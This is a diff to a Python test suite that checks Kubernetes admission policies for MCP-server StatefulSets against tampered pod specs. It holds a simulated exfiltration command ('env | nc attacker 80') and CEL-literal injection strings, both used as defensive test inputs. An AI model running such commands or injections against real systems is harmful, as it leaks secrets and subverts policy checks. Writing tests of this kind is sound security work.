@@ -19,6 +19,7 @@ import yaml
 from conftest import DEFAULT_SOURCE
 from test_bundles_admission import render_files, run_policy
 from generator.render.kubernetes import workloads as k8s_workloads
+from generator.render.kubernetes.policy import cel_value
 
 NAMESPACE = "mcp-production"
 RUNNER = f"system:serviceaccount:{NAMESPACE}:"
@@ -190,6 +191,86 @@ def test_missing_toolhive_labels_are_refused(files: dict[str, bytes], variant: s
     refused(policy, attack, "github-proxy-runner", "StatefulSet github's pod template must be labelled")
     del attack["spec"]["template"]["metadata"]
     refused(policy, attack, "github-proxy-runner", "must be labelled toolhive: \"true\"", "must be labelled toolhive-name")
+
+
+def _mcp_server_names(files: dict[str, bytes], variant: str) -> list[str]:
+    prefix = f"{FOLDERS[variant]}servers/"
+    return sorted(path.removeprefix(prefix).split("/")[0] for path in files
+                  if path.startswith(prefix) and path.endswith("/mcpserver.yaml"))
+
+
+def _image_of(files: dict[str, bytes], variant: str, name: str) -> str:
+    return mcp_server(files, variant, name)["spec"]["image"]
+
+
+CONTAINER_ATTACKS = {
+    "a foreign image": lambda pod, other: pod["containers"][0].update(image="registry.internal/tools/busybox:1.36"),
+    "another server's image": lambda pod, other: pod["containers"][0].update(image=other),
+    "the same image under the latest tag": lambda pod, other: pod["containers"][0].update(
+        image=pod["containers"][0]["image"].split("@")[0].rsplit(":", 1)[0] + ":latest"),
+    "extra arguments": lambda pod, other: pod["containers"][0].update(args=["--read-only=false"]),
+    "a command": lambda pod, other: pod["containers"][0].update(command=["/bin/sh", "-c", "env | nc attacker 80"]),
+    "a sidecar": lambda pod, other: pod["containers"].append({"name": "helper", "image": other}),
+    "the container renamed": lambda pod, other: pod["containers"][0].update(name="server"),
+    "an init container": lambda pod, other: pod.setdefault("initContainers", []).append(
+        {"name": "init", "image": pod["containers"][0]["image"], "command": ["/bin/sh"]}),
+    "no image": lambda pod, other: pod["containers"][0].pop("image"),
+}
+
+
+@pytest.mark.parametrize("variant", VARIANTS)
+@pytest.mark.parametrize("attack", sorted(CONTAINER_ATTACKS))
+def test_the_mcp_container_runs_only_what_the_profile_ships(files: dict[str, bytes], variant: str, attack: str) -> None:
+    """A proxy runner (say one taken over through its network-facing proxy) runs only the server's
+    shipped image, with its shipped arguments, as the only container: anything else would run with
+    the server's Secret, service account and network reach."""
+    policy = workload_policy(files, variant)
+    statefulset = toolhive_statefulset(mcp_server(files, variant, "github"))
+    pod = statefulset["spec"]["template"]["spec"]
+    CONTAINER_ATTACKS[attack](pod, _image_of(files, variant, "fetch"))
+    expected = f"StatefulSet github must run one container, mcp, with image {_image_of(files, variant, 'github')} and "
+    for operation in ("CREATE", "UPDATE"):
+        messages = review(policy, statefulset, "github-proxy-runner", operation)
+        assert any(message.startswith(expected) for message in messages), (operation, messages)
+    assert review(policy, statefulset, "github-proxy-runner", "DELETE") == []  # deleting its own is its job
+
+
+@pytest.mark.parametrize("variant", VARIANTS)
+def test_each_server_runs_its_own_image(files: dict[str, bytes], variant: str) -> None:
+    """Every shipped MCPServer's StatefulSet is admitted as ToolHive makes it, and with any other
+    shipped server's image refused."""
+    policy = workload_policy(files, variant)
+    names = _mcp_server_names(files, variant)
+    assert len(names) >= 4
+    for name in names:
+        for other in names:
+            statefulset = toolhive_statefulset(mcp_server(files, variant, name))
+            statefulset["spec"]["template"]["spec"]["containers"][0]["image"] = _image_of(files, variant, other)
+            admitted = review(policy, statefulset, f"{name}-proxy-runner") == []
+            assert admitted == (_image_of(files, variant, other) == _image_of(files, variant, name)), (name, other)
+
+
+def test_a_large_profile_pins_every_container_across_its_workload_policies(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Past the policy size budget the servers' containers are spread over several workload policies
+    (each bound like the first): every server is admitted by all of them, and its StatefulSet with
+    another image is refused by the one holding it."""
+    from generator.render.kubernetes import policy as k8s_policy
+    monkeypatch.setattr(k8s_policy, "SHAPES_BUDGET", 200)  # two servers a part
+    split = render_files(DEFAULT_SOURCE)
+    folder = FOLDERS["current"] + "base/"
+    extra = sorted(path for path in split if path.startswith(f"{folder}admission-policy-workloads-"))
+    assert len(extra) >= 2, extra
+    policies = [workload_policy(split, "current")] + [load(split, path) for path in extra]
+    for path, policy in zip(extra, policies[1:]):
+        binding = load(split, path.replace("admission-policy-workloads", "admission-policy-binding-workloads"))
+        assert binding["spec"]["policyName"] == policy["metadata"]["name"] and binding["spec"]["validationActions"] == ["Deny"]
+    names = _mcp_server_names(split, "current")
+    for name in names:
+        statefulset = toolhive_statefulset(mcp_server(split, "current", name))
+        assert [review(policy, statefulset, f"{name}-proxy-runner") for policy in policies] == [[]] * len(policies), name
+        statefulset["spec"]["template"]["spec"]["containers"][0]["image"] = "registry.internal/tools/busybox:1.36"
+        refusing = [policy["metadata"]["name"] for policy in policies if review(policy, statefulset, f"{name}-proxy-runner")]
+        assert len(refusing) == 1, (name, refusing)
 
 
 def test_every_label_the_network_policies_select_by_is_pinned_or_refused(files: dict[str, bytes]) -> None:
@@ -440,12 +521,13 @@ def test_hostile_names_cannot_break_out_of_the_cel_literals() -> None:
     a backslash or a non-ASCII character in a namespace, server or Secret name stays one string."""
     hostile = 'x"] || true || ["\\\u00e9'
     namespace = 'ns" || true || "'
-    policy = k8s_workloads.workload_policy('p" + "', namespace, {hostile: [hostile + "-s"], "other": []}, [hostile])
+    runs = {hostile: cel_value({"image": hostile + "-image", "args": [hostile]})}
+    [policy] = k8s_workloads.workload_policies('p" + "', namespace, {hostile: [hostile + "-s"], "other": []}, [hostile], runs)
     statefulset = {
         "apiVersion": "apps/v1", "kind": "StatefulSet", "metadata": {"name": hostile},
         "spec": {"template": {"metadata": {"labels": {"toolhive": "true", "toolhive-name": hostile, "app": hostile}},
                               "spec": {"serviceAccountName": hostile + "-sa", "imagePullSecrets": [{"name": hostile}],
-                                       "containers": [{"name": "mcp", "env": [
+                                       "containers": [{"name": "mcp", "image": hostile + "-image", "args": [hostile], "env": [
                                            {"name": "T", "valueFrom": {"secretKeyRef": {"name": hostile + "-s", "key": "k"}}}]}]}}},
     }
     user = f"user:system:serviceaccount:{namespace}:{hostile}-proxy-runner"
@@ -460,14 +542,20 @@ def test_hostile_names_cannot_break_out_of_the_cel_literals() -> None:
     changed = copy.deepcopy(statefulset)
     changed["spec"]["template"]["spec"]["containers"][0]["env"][0]["valueFrom"]["secretKeyRef"]["name"] = "x"
     assert review(policy, changed, user)
+    for field, value in (("image", "x"), ("args", [])):
+        changed = copy.deepcopy(statefulset)
+        changed["spec"]["template"]["spec"]["containers"][0][field] = value
+        assert any(f" with image {hostile}-image and " in message for message in review(policy, changed, user)), field
 
 
 def test_the_namespace_and_every_literal_are_cel_strings() -> None:
-    policy = k8s_workloads.workload_policy("p", "ns", {"a": ["a-secrets"]}, ["pull"])
+    [policy] = k8s_workloads.workload_policies("p", "ns", {"a": ["a-secrets"]}, ["pull"],
+                                               {"a": cel_value({"image": "a-image", "args": ["--x"]})})
     assert policy["spec"]["matchConditions"] == [{
         "name": "namespace-service-account", "expression": 'request.userInfo.username.startsWith("system:serviceaccount:ns:")'}]
     variables = {item["name"]: item["expression"] for item in policy["spec"]["variables"]}
     assert variables["secretsByServer"] == '{"a": [dyn("a-secrets")]}' and variables["pullSecrets"] == '[dyn("pull")]'
+    assert variables["runs"] == '{"a": {"image": dyn("a-image"), "args": dyn([dyn("--x")])}}'
 
 
 # --- Services: a proxy runner touches only its own two ------------------------------------
